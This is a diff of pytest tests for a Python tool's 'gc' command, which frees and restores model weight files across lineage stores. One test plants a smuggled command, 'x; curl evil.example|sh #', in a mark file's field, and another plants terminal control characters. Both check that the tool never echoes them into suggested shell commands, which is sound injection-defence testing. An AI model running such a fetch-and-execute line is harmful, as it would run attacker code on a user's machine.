@@ -1,8 +1,11 @@
 """`gc` frees weights that nothing needs and never a record; what was freed is told from what is lost."""
 
 import json
+import shlex
 import shutil
+import subprocess
 from dataclasses import replace
+from itertools import product
 from pathlib import Path
 from typing import Any
 
@@ -11,14 +14,16 @@ from support.lineage_factory import PROMOTED, REJECTED, SETTINGS, build
 
 from bootstrap import schema
 from bootstrap.canonical import canonical_json, digest_of
+from bootstrap.cli.gc import _named_elsewhere as named_elsewhere
 from bootstrap.cli.main import main
 from bootstrap.config.recipe import Recipe
 from bootstrap.errors import LineageLocked, StoreCorrupt, StoreError, WeightsFreed
 from bootstrap.ledger_records import DiagnosticMetric, Diagnostics, Generation, GuardAction, GuardBreach
+from bootstrap.lineage.text import si
 from bootstrap.stages.needed import needed
 from bootstrap.store import durable, gc
 from bootstrap.store.artifacts import put_artifact
-from bootstrap.store.fingerprint import MODEL_WEIGHTS
+from bootstrap.store.fingerprint import ADAPTER_WEIGHTS, MODEL_WEIGHTS
 from bootstrap.store.freed import FILE_NAME
 from bootstrap.store.lineage_store import HEADER_NAME, Header, LineageStore
 from bootstrap.store.lock import lineage_lock
@@ -124,7 +129,9 @@ def test_what_needs_freed_weights_is_told_how_to_get_them(
     run(store, "export", "gen-3", tmp_path / "out", code=3)
     message = capsys.readouterr().err
     assert "gen-3 of lineage addition were freed by `bootstrap gc`" in message
-    assert "bootstrap reproduce gen-3 --lineage addition --into DIR" in message and "bootstrap gc --restore" in message
+    where = f"--store {store.root.parent} --lineage addition"
+    assert f"`bootstrap reproduce gen-3 {where} --into DIR`" in message
+    assert f"`bootstrap gc --restore DIR {where}`" in message
     ref = store.ledger.read()[3].generation.artifacts["weights"]
     with pytest.raises(WeightsFreed):
         store.artifact(ref).read_all()
@@ -167,6 +174,40 @@ def test_freed_weights_come_back_from_an_exported_model_and_from_a_copy(
     assert "holds no weights that were freed" in capsys.readouterr().err
 
 
+def test_an_archive_to_restore_from_is_unpacked_first(
+    store: LineageStore, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    run(store, "export", "--lineage", "addition", tmp_path / "full copy.tar")
+    run(store, "gc", "--keep", "champion", "--yes")
+    capsys.readouterr()
+    run(store, "gc", "--restore", tmp_path / "full copy.tar", code=2)
+    message = capsys.readouterr().err
+    unpack = message.split("`")[1]
+    assert unpack == f"mkdir DIR && tar xf '{tmp_path}/full copy.tar' -C DIR"
+    subprocess.run(unpack, shell=True, check=True, cwd=tmp_path, timeout=60)
+    run(store, "gc", "--restore", tmp_path / "DIR")
+    assert freed(store) == []
+
+
+def test_copies_that_publishing_has_made_are_told_and_give_weights_back(
+    store: LineageStore, capsys: pytest.CaptureFixture[str]
+) -> None:
+    copies = {}
+    for number in (1, 6):
+        copies[number] = store.root.parent / f"mlflow-artifacts/models/m-{number}/artifacts/model"
+        shutil.copytree(weights(store, number), copies[number])
+    (store.root.parent / "mlflow-artifacts/models/m-other/artifacts/model").mkdir(parents=True)
+    size = (copies[1] / MODEL_WEIGHTS).stat().st_size
+    run(store, "gc", "--keep", "champion", "--json")
+    assert json.loads(capsys.readouterr().out)["addition"]["copied_to_mlflow_bytes"] == size
+    run(store, "gc", "--keep", "champion", "--yes")
+    told = capsys.readouterr().out
+    assert f"publishing has copied {si(size, unit='B')} of them into {store.root.parent}/mlflow-artifacts" in told
+    assert (copies[1] / MODEL_WEIGHTS).is_file()
+    run(store, "gc", "--restore", store.root.parent)
+    assert freed(store) == [2, 3, 4, 5, 7]
+
+
 def test_weights_that_are_made_again_are_whole_again(store: LineageStore) -> None:
     data = {name: (weights(store, 3) / name).read_bytes() for name in store.artifact(_ref(store, 3)).files}
     run(store, "gc", "--keep", "champion,last=2", "--yes")
@@ -203,6 +244,32 @@ def test_a_kill_between_mark_and_removal_frees_nothing_unnoticed(
     assert freed(store) == [0]
 
 
+def test_a_kill_between_two_removals_loses_nothing(store: LineageStore, monkeypatch: pytest.MonkeyPatch) -> None:
+    made = store.put("weights", {"fingerprint": "a" * 64}, {MODEL_WEIGHTS: b"whole", ADAPTER_WEIGHTS: b"adapter"})
+    store.put("step", {"generation": 2, "step": 0}, {"result.json": canonical_json({"fingerprint": "a" * 64})})
+
+    def of_both() -> list[gc.Held]:
+        found = gc.weights_of_lineage(store, store.ledger.read(), {})
+        return [one for one in found if one.artifact.path == made.path]
+
+    removed = list[Path]()
+
+    def killed(path: Path, **_: object) -> None:
+        if removed:
+            raise KeyboardInterrupt
+        path.unlink()
+        removed.append(path)
+
+    with monkeypatch.context() as patch:
+        patch.setattr(durable, "remove_file", killed)
+        with pytest.raises(KeyboardInterrupt):
+            gc.free(store, of_both())
+    gc.free(store, of_both())
+    [one] = of_both()
+    assert one.artifact.freed is not None and set(one.artifact.freed.files) == {MODEL_WEIGHTS, ADAPTER_WEIGHTS}
+    assert verify(store.root).is_clean
+
+
 def test_a_second_time_frees_nothing_more(store: LineageStore, capsys: pytest.CaptureFixture[str]) -> None:
     run(store, "gc", "--keep", "champion,last=2", "--yes")
     mark = (weights(store, 1) / FILE_NAME).read_bytes()
@@ -216,6 +283,45 @@ def test_nothing_is_freed_while_a_run_writes_the_lineage(store: LineageStore) ->
     with lineage_lock(store.root):
         run(store, "gc", "--yes", code=LineageLocked.exit_code)
     assert freed(store) == []
+
+
+def test_a_lineage_that_a_run_writes_stops_none_of_the_others(
+    store: LineageStore, capsys: pytest.CaptureFixture[str]
+) -> None:
+    others = {name: LineageStore(store.root.with_name(name)) for name in ("between", "zuletzt")}
+    for other in others.values():
+        shutil.copytree(store.root, other.root)
+    with lineage_lock(others["between"].root):
+        run(store, "gc", "--keep", "champion", "--yes", "--json", code=LineageLocked.exit_code)
+        told = capsys.readouterr()
+        assert freed(store) == freed(others["zuletzt"]) == [1, 2, 3, 4, 5, 7]
+        assert freed(others["between"]) == []
+        found = json.loads(told.out)
+        assert {name: "error" in one for name, one in found.items()} == {
+            "addition": False, "between": True, "zuletzt": False
+        }  # fmt: skip
+        assert found["zuletzt"]["freed_bytes"] > 0 == found["between"]["freed_bytes"]
+        assert told.err.count("error: ") == 1 and str(others["between"].root) in told.err
+        data = store.root.parent / "elsewhere"
+        data.mkdir()
+        shutil.copy(weights(others["between"], 1) / MODEL_WEIGHTS, data)
+        run(store, "gc", "--restore", data, code=LineageLocked.exit_code)
+        assert freed(store) == freed(others["zuletzt"]) == [2, 3, 4, 5, 7]
+
+
+def test_nothing_is_freed_where_one_lineage_lacks_what_keep_names(store: LineageStore) -> None:
+    build(store.root.with_name("short"), plan=(PROMOTED,), name="short")
+    run(store, "gc", "--keep", "gen-5", "--yes", code=2)
+    assert freed(store) == []
+
+
+def test_a_damaged_lineage_stops_none_of_the_others(store: LineageStore, capsys: pytest.CaptureFixture[str]) -> None:
+    other = LineageStore(store.root.with_name("aaa"))
+    shutil.copytree(store.root, other.root)
+    (weights(other, 3) / MODEL_WEIGHTS).unlink()
+    run(store, "gc", "--keep", "champion", "--yes", code=StoreCorrupt.exit_code)
+    assert "missing" in capsys.readouterr().err
+    assert freed(store) == [1, 2, 3, 4, 5, 7] and freed(other) == []
 
 
 @pytest.mark.parametrize(
@@ -271,6 +377,23 @@ def test_weights_between_steps_go_with_their_generation_and_unfinished_work_stay
     run(store, "gc", "--keep", "champion", "--yes")
     assert not done.exists()
     assert under_way.exists() and alone.exists()
+
+
+def test_unfinished_work_keeps_weights_that_a_committed_generation_has_too(store: LineageStore) -> None:
+    # A merge of the same models after a rejected one: gen-8 has finished the step that gen-2 was made by.
+    shared = store.put("weights", {"fingerprint": "a" * 64}, {MODEL_WEIGHTS: b"shared"})
+    between = store.put("weights", {"fingerprint": "b" * 64}, {MODEL_WEIGHTS: b"between"})
+    for number, letter in product((2, 8), "ab"):
+        result = {"result.json": canonical_json({"fingerprint": letter * 64})}
+        store.put("step", {"generation": number, "step": letter}, result)
+    entries = store.ledger.read()
+    refs = {**entries[2].generation.artifacts, "weights": shared.ref(store.root)}
+    merged = replace(entries[2], generation=entries[2].generation.model_copy(update={"artifacts": refs}))
+    named = [*entries[:2], merged, *entries[3:]]
+    held = {one.artifact.path: one for one in gc.weights_of_lineage(store, named, {})}
+    assert (held[shared.path].generations, held[shared.path].kept) == ((2,), "unfinished work")
+    assert held[between.path].kept == "unfinished work"
+    assert not held[weights(store, 1)].kept
 
 
 def test_a_base_stays_under_an_adapter_that_stays(store: LineageStore) -> None:
@@ -343,6 +466,43 @@ def test_links_that_lead_out_of_a_lineage_are_not_followed(store: LineageStore, 
 def test_an_artifact_cannot_bring_its_own_mark(store: LineageStore) -> None:
     with pytest.raises(StoreError, match=FILE_NAME):
         store.put("weights", {"x": 1}, {FILE_NAME: b"{}"})
+
+
+def test_a_generation_of_another_lineage_without_weights_is_no_obstacle(store: LineageStore) -> None:
+    entries = store.ledger.read()
+    without = entries[3].generation.model_copy(
+        update={"artifacts": {role: ref for role, ref in entries[3].generation.artifacts.items() if role != "weights"}}
+    )
+    build(store.root.with_name("other"), plan=(PROMOTED,), name="other")
+    assert named_elsewhere(store, [*entries[:3], replace(entries[3], generation=without), *entries[4:]]) == {}
+
+
+def test_a_command_in_a_mark_is_never_told(store: LineageStore) -> None:
+    moved = LineageStore(store.root.with_name("it's"))
+    run(store, "gc", "--keep", "champion", "--yes")
+    mark = weights(store, 1) / FILE_NAME
+    found = json.loads(mark.read_text())
+    mark.unlink()
+    mark.write_text(json.dumps({**found, "lineage": "x; curl evil.example|sh #"}))
+    store.root.rename(moved.root)
+    with pytest.raises(WeightsFreed) as raised:
+        moved.artifact(_ref(moved, 1)).read(MODEL_WEIGHTS)
+    told = str(raised.value)
+    assert "evil" not in told
+    words = shlex.split(told.split("`")[3])
+    assert words[words.index("--store") + 1] == str(moved.root.parent)
+    assert words[words.index("--lineage") + 1] == "it's"
+
+
+@pytest.mark.parametrize(("field", "text"), [("lineage", "\u202etxt"), ("when", "\u202e"), ("when", "soon; `x`")])
+def test_a_mark_with_text_that_none_of_ours_has_counts_for_nothing(store: LineageStore, field: str, text: str) -> None:
+    run(store, "gc", "--keep", "champion", "--yes")
+    mark = weights(store, 1) / FILE_NAME
+    found = json.loads(mark.read_text())
+    mark.unlink()
+    mark.write_text(json.dumps({**found, field: text}))
+    with pytest.raises(StoreCorrupt, match="missing"):
+        store.artifact(_ref(store, 1))
 
 
 def test_text_in_a_mark_cannot_reach_the_terminal(store: LineageStore) -> None:
